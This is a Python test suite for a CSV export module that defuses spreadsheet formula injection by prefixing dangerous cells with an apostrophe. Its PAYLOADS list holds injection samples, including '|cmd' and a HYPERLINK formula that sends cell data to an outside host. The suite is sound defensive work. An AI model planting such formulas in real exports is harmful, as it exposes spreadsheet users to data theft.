from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from deliveries import csv_export
from deliveries.csv_export import HEADER, columns_of, neutralise, write

CASES = Path(__file__).parents[3].parent / "shared/data/injection/formula_cases.jsonl"
NASTY = Path(__file__).parents[3].parent / "shared/data/injection/blns.json"

# Payloads of OWASP's page on CSV injection and of defusedcsv's kind, in our own words.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "%1",
    "|cmd",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b =1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "-2-3-4-5-6",
    "+1-1",
    '=HYPERLINK("http://x.com?"&A1,"click")',
    "- a list",
]
PLAIN = [
    "",
    "Ann",
    "1",
    "-1.3",
    "-1,2",
    "+5",
    "-12%",
    "+49 30 23125 123",
    "+49 (30) 23125-123",
    "+49 30/23125123",
    "+1 512-555-0100",
    "+442079460000",
    "(030) 23125",
    "19.00 %",
    "a=b",
    "ann@acme.com",
    "'quoted",
    "http://www.acme.com",
    "Zoë",
    "\u00bfQu\u00e9?",
    " spaced",
]

TRIGGERS = "=+-@%|\x00\uff1d\uff0b\uff0d\uff20"
UNSEEN = "\u00ad\u200b\u200c\u200d\u2060\ufeff"

cells = st.one_of(
    st.text(max_size=12),
    st.sampled_from(PAYLOADS),
    st.text("=+-@%|\t\r\n\x00'\"; ,1a\u200b\u3000\uff1d", max_size=6),
)


def written(rows, headers=HEADER, **options):
    """Rows as dicts, for tests that care for one cell."""
    stream = io.BytesIO()
    rows = list(rows)
    block = [[row.get(name, "") for row in rows] for name in headers]
    count = write([block] if rows else [], stream, headers, **options)
    return count, stream.getvalue()


def read_back(content):
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.DictReader(text))


class TestNeutralise:
    @pytest.mark.parametrize("cell", PAYLOADS)
    def test_disarms(self, cell):
        assert neutralise(cell) == f"'{cell}"

    @pytest.mark.parametrize("cell", PLAIN)
    def test_leaves_alone(self, cell):
        assert neutralise(cell) == cell

    @pytest.mark.skipif(not CASES.exists(), reason="../shared/data is not on this machine")
    def test_agrees_with_what_others_call_dangerous(self):
        cases = [json.loads(line) for line in CASES.read_text().splitlines()]

        for case in cases:
            assert (neutralise(case["value"]) != case["value"]) is case["dangerous"], case

    @settings(deadline=None)
    @given(cells)
    @example("\u200b\u3000\ufeff =1")
    def test_disarms_whatever_begins_with_a_trigger_and_nothing_else(self, cell):
        seen = next((sign for sign in cell if not sign.isspace() and sign not in UNSEEN), "")
        before = cell[: cell.index(seen)] if seen else cell
        dangerous = (seen and seen in TRIGGERS) or set(before) & set("\t\r\n")

        found = neutralise(cell)

        assert found in (cell, f"'{cell}")
        assert bool(dangerous and not csv_export._PLAIN.fullmatch(cell)) is (found != cell)

    def test_takes_no_time_over_a_long_row_of_digits(self):
        assert neutralise("+" + "1 " * 50_000 + "x").startswith("'")


class TestColumns:
    def test_are_the_contracts_unless_a_client_has_its_own(self):
        assert [column.field for column in columns_of([])] == list(HEADER)
        assert [column.header for column in columns_of(["email", "phone"])] == ["email", "phone"]

    def test_may_have_another_header(self):
        (found,) = columns_of(["personalization = icebreaker"])

        assert found == ("personalization", "icebreaker")

    def test_have_extras_behind_them_once_and_in_their_order(self):
        found = columns_of([], ["b", "email", "a", "b", "=1+1", "x=y"])

        assert [column.field for column in found][len(HEADER) :] == ["b", "a", "=1+1", "x=y"]

    @pytest.mark.parametrize("entry", ["=", "a=", "=a", " = "])
    def test_that_are_half_a_pair_are_a_name(self, entry):
        assert columns_of([entry]) == [(entry, entry)]


class TestWrite:
    def test_writes_bom_header_and_crlf(self):
        count, content = written([{"email": "ann@acme.com", "lead_id": "7"}])

        lines = content.decode("utf-8").split("\r\n")
        assert count == 1
        assert lines[0] == "\ufeff" + ",".join(f'"{name}"' for name in HEADER)
        assert lines[1].startswith('"ann@acme.com","",')
        assert lines[2:] == [""]

    def test_has_the_columns_of_the_contract(self):
        assert ",".join(HEADER) == (
            "email,first_name,last_name,company,title,website,linkedin_url,phone,subject,body,"
            "icebreaker,lead_id,delivered_at"
        )

    def test_disarms_names_of_columns_too(self):
        _, content = written([], headers=[*HEADER, "=1+1"])

        assert content.decode().endswith('"\'=1+1"\r\n')

    def test_for_others_than_excel_has_neither_bom_nor_crlf(self):
        _, content = written([{"email": "ann@acme.com"}], headers=["email"], excel=False)

        assert content == b'"email"\n"ann@acme.com"\n'

    @pytest.mark.parametrize("name", HEADER)
    def test_disarms_every_column(self, name):
        _, content = written([{name: payload} for payload in PAYLOADS])

        assert [row[name] for row in read_back(content)] == [f"'{cell}" for cell in PAYLOADS]

    def test_takes_one_block_at_a_time_and_leaves_the_stream_open(self):
        stream = io.BytesIO()
        sizes = []

        def blocks():
            for n in range(50):
                sizes.append(stream.tell())
                yield [[f"{n}.{m}@acme.com" for m in range(100)]]

        count = write(blocks(), stream, ["email"])

        assert count == 5_000
        assert sizes == sorted(set(sizes))
        assert not stream.closed

    def test_leaves_the_stream_open_when_the_rows_fail(self):
        stream = io.BytesIO()

        with pytest.raises(ZeroDivisionError):
            write(([[str(1 // n)]] for n in (1, 0)), stream, ["lead_id"])

        assert not stream.closed

    def test_is_read_by_pandas_as_written(self):
        body = 'Dear "Ann",\nnew; line\r\nand more'

        _, content = written([{"body": body, "phone": "+49 30 23125 123"}])

        (found,) = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False).to_dict(
            "records"
        )
        assert (found["body"], found["phone"]) == (body, "+49 30 23125 123")

    @settings(deadline=None)
    @given(st.lists(st.fixed_dictionaries({"body": cells, "title": cells})))
    def test_is_read_back_as_it_was_or_with_an_apostrophe(self, rows):
        count, content = written(rows)

        found = read_back(content)
        assert count == len(found) == len(rows)
        for row, back in zip(rows, found, strict=True):
            assert {name: back[name] for name in row} == {
                name: neutralise(cell) for name, cell in row.items()
            }
            assert all(back[name] in {cell, f"'{cell}"} for name, cell in row.items())

    @pytest.mark.skipif(not NASTY.exists(), reason="../shared/data is not on this machine")
    def test_survives_the_list_of_naughty_strings(self):
        nasty = [text for text in json.loads(NASTY.read_text()) if text.isprintable()]

        _, content = written({"title": text} for text in nasty)

        assert [row["title"] for row in read_back(content)] == [neutralise(n) for n in nasty]
